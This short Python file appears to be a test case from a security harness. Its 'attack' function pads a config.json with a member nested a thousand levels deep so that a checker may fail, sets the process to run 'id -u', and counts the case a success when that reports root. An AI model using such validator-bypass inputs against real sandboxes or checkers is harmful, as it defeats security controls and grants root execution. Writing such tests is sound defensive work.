"""config.json has a member of a thousand levels, which a checker may fail on, and give way."""

import json

from bypass import refused

SOURCE = "idea"
WAY = "create"
STOPPED = refused("json")


def attack(t):
    t.spec["process"]["args"] = t.argv("id -u")
    t.text = json.dumps(t.spec)[:-1] + ', "depth": ' + "[" * 1000 + "]" * 1000 + "}"
    return t.run(t.spec["process"]["args"]).split()[-1:] == ["0"] and "uid 0"
